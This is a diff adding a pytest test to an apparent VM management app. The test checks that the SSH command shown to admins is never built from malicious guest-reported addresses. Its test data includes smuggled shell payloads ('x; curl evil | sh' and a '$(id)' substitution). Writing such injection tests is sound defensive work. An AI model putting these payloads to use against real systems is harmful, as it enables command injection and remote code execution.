@@ -158,3 +158,21 @@ def test_nothing_changed_is_no_revision(admin, vm):
     assert first_boot.change(admin, vm, FirstBoot(by="cloud-init", user="bob")) is None
     vm.first_boot.refresh_from_db()
     assert vm.first_boot.revision == 2
+
+
+@pytest.mark.parametrize(
+    ("addresses", "command"),
+    [
+        (["192.0.2.5"], "ssh bob@192.0.2.5"),
+        (["x; curl evil | sh", "2001:db8::5"], "ssh bob@2001:db8::5"),
+        (["fe80::1%$(id)", "127.0.0.1"], ""),
+        ([], ""),
+    ],
+)
+def test_the_command_to_sign_in_is_never_the_guests_own_words(admin, vm, client, addresses, command):
+    first_boot.change(admin, vm, FirstBoot(by="cloud-init", user="bob"))
+    vm.guest_addresses, vm.status = addresses, "up"
+    vm.save()
+    assert first_boot.ssh_command(vm) == command
+    client.force_login(admin)
+    assert (f'data-copy="{command}"' in client.get(f"/vms/{vm.pk}/?tab=guest").content.decode()) == bool(command)
